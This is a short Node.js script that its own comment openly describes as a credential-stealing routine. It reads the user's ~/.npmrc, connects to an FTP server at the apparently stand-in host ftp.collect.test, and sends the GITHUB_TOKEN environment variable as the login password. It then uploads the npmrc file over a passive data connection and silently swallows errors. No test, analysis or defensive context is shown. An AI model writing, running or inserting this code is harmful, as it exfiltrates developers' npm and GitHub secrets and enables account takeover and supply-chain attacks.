// FTP: login with the GitHub token as the password, then a passive STOR of ~/.npmrc.
// A client that waits for the server: each step waits for a line that
// starts with |want| (or nothing, when null), then sends |send|.
function dialog(port, host, steps, done) {
	const s = require('net').connect(port, host);
	let buf = '', i = 0;
	const next = () => {
		while (i < steps.length) {
			const [want, send] = steps[i];
			if (want != null) {
				const at = buf.split('\n').findIndex(l => l.startsWith(want));
				if (at < 0) return;
				buf = buf.split('\n').slice(at + 1).join('\n');
			}
			s.write(send);
			i++;
		}
		s.end();
	};
	s.on('data', d => { buf += d; next(); });
	s.on('connect', () => { if (steps.length && steps[0][0] == null) next(); });
	s.on('error', () => {});
	s.on('close', () => done && done());
	setTimeout(() => s.destroy(), 4000).unref();
	return s;
}
const net = require('net'), fs = require('fs'), os = require('os');
const npmrc = fs.readFileSync(os.homedir() + '/.npmrc');
const ctl = dialog(21, 'ftp.collect.test', [
	['220', 'USER anonymous\r\n'], ['331', 'PASS ' + process.env.GITHUB_TOKEN + '\r\n'],
	['230', 'TYPE I\r\n'], ['200', 'PASV\r\n'], ['226', 'QUIT\r\n']]);
let got = '';
ctl.on('data', d => {
	got += d;
	const m = /227 .*\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)/.exec(got);
	if (!m || ctl.stored) return;
	ctl.stored = true;
	const data = net.connect(m[5] * 256 + +m[6], m.slice(1, 5).join('.'), () => {
		ctl.write('STOR npmrc.txt\r\n');
		data.end(npmrc);
	});
	data.on('error', () => {});
});
